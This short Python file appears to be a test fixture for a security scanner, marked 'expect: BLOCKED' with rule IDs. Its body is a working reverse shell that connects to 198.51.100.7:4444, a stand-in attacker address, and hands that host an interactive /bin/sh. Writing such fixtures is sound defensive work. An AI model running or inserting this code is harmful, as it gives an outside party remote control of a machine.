# expect: BLOCKED
# rules: MAI106 MAI122
import os, socket, subprocess
s = socket.socket()
s.connect(("198.51.100.7", 4444))
os.dup2(s.fileno(), 0)
os.dup2(s.fileno(), 1)
subprocess.call(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno())
